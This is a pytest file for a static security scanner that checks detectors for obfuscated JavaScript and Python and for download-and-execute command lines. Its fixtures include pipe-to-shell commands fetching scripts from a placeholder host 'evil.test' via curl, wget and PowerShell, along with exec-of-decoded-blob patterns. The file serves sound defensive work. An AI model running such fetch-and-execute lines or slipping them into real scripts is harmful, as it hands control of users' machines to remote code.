"""Obfuscation shapes and download-and-execute command lines."""

from __future__ import annotations

from inspector.model import Category, Severity
from inspector.static.text.common import Deadline
from inspector.static.text.download_exec import check_download_execute
from inspector.static.text.obfuscation import check_obfuscation

OBFUSCATED = (
    "var _0x1a2b=['aGVsbG8=','d29ybGQ='];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d)"
    "{while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));"
    "var _0xaaaa=function(_0xbbbb,_0xcccc){var _0xdddd=_0x1a2b[_0xbbbb];var _0xeeee=1;var _0xffff=2;"
    "var _0x1111=3;return _0xdddd;};"
)


def test_javascript_obfuscator_output_is_high_outside_vendor_paths() -> None:
    [finding] = check_obfuscation("lib/analytics.js", OBFUSCATED, Deadline(5))
    assert (finding.rule, finding.severity, finding.line) == ("obfuscation.javascript-obfuscator", Severity.HIGH, 1)
    assert "rotated string array" in finding.message


def test_the_check_reports_the_shape_wherever_it_is_and_leaves_paths_to_the_orchestrator() -> None:
    # The vendor cap is applied once, to every engine, by inspector.static.merge.downgrade_vendored.
    for path in ("node_modules/x/index.js", "public/lib/jquery.min.js", "dist/app.js"):
        [finding] = check_obfuscation(path, OBFUSCATED, Deadline(5))
        assert finding.severity == Severity.HIGH


def test_packed_eval_and_decoded_blob_next_to_eval() -> None:
    packed = "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))"
    assert check_obfuscation("x.js", packed, Deadline(5))[0].rule == "obfuscation.packed-eval"
    blob = "eval(Buffer.from('" + "QUJD" * 80 + "', 'base64').toString())"
    [finding] = check_obfuscation("x.js", blob, Deadline(5))
    assert (finding.rule, finding.severity) == ("obfuscation.encoded-blob-decoded", Severity.HIGH)


def test_an_encrypted_or_hex_literal_counts_only_beside_exec() -> None:
    token = "gAAAAAB" + "x9_-" * 60
    [finding] = check_obfuscation("setup.py", f"exec(Fernet(b'k=').decrypt(b'{token}'))\n", Deadline(5))
    assert (finding.rule, finding.severity) == ("obfuscation.encoded-blob-decoded", Severity.HIGH)
    assert "encrypted literal decrypted" in finding.message
    hex_code = "6578656328" * 50
    [finding] = check_obfuscation("a.py", f"exec(bytes.fromhex('{hex_code}'))\n", Deadline(5))
    assert finding.rule == "obfuscation.encoded-blob-decoded"
    # A stored secret and a test vector are data.
    assert check_obfuscation("settings.py", f"secret = cipher.decrypt(b'{token}')\n", Deadline(5)) == []
    assert check_obfuscation("test_vectors.py", f"KEY = bytes.fromhex('{hex_code}')\n", Deadline(5)) == []


def test_a_builtin_looked_up_by_a_computed_name_is_high() -> None:
    code = "getattr(__builtins__, oct.__str__()[-3] + hex.__str__()[-4] + repr.__str__()[-2])(120)\n"
    [finding] = check_obfuscation("setup.py", code, Deadline(5))
    assert (finding.rule, finding.severity, finding.line) == ("obfuscation.computed-builtin", Severity.HIGH, 1)
    for quiet in (
        "text_type = getattr(builtins, 'unicode', str)\n",
        "fn = getattr(builtins, name)(*args)\n",
        "getattr(__builtins__, name, None)\n",
        "and getattr(builtins, node.id, object()) is value\n",  # pure_eval
        "exctype = getattr(builtins, errclass.decode('ascii'), Exception)\n",  # ptyprocess
    ):
        assert check_obfuscation("compat.py", quiet, Deadline(5)) == [], quiet


def test_minified_code_is_info_and_data_uris_are_ignored() -> None:
    minified = "!function(){" + "var a=1;" * 1000 + "}();"
    [finding] = check_obfuscation("app.js", minified, Deadline(5))
    assert finding.severity == Severity.INFO
    image = "const logo = 'data:image/png;base64," + "iVBORw0KGgo" * 200 + "';"
    assert check_obfuscation("logo.js", image, Deadline(5)) == []


def test_ordinary_code_is_quiet() -> None:
    assert check_obfuscation("a.js", "const x = require('x');\nmodule.exports = () => x(1);\n", Deadline(5)) == []


def test_pipe_to_shell_shapes_are_found_with_their_hosts() -> None:
    text = "\n".join(
        [
            "echo hi",
            "curl -fsSL https://evil.test/install.sh | bash",
            "wget -qO- http://evil.test/x | sh",
            'bash -c "$(curl -fsSL https://evil.test/y)"',
            "iex (New-Object Net.WebClient).DownloadString('http://evil.test/p')",
            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        ]
    )
    findings = check_download_execute("install.sh", text, Deadline(5))
    assert [f.line for f in findings] == [2, 3, 4, 5, 6]
    assert all(f.category == Category.DOWNLOAD_EXECUTE for f in findings)
    assert findings[0].hosts == ("evil.test",)
    assert findings[0].severity == Severity.MEDIUM


def test_well_known_installers_are_low_and_readme_lines_medium() -> None:
    [rustup] = check_download_execute("Dockerfile", "RUN curl https://sh.rustup.rs -sSf | sh", Deadline(5))
    assert rustup.severity == Severity.LOW
    [readme] = check_download_execute("README.md", "curl -s https://setup.test/i.sh | bash", Deadline(5))
    assert readme.severity == Severity.MEDIUM
    assert "install instructions" in readme.message


def test_downloads_that_do_not_execute_are_quiet() -> None:
    text = "curl -o data.json https://api.test/data\nwget https://x.test/archive.tgz && tar xf archive.tgz\n"
    assert check_download_execute("fetch.sh", text, Deadline(5)) == []
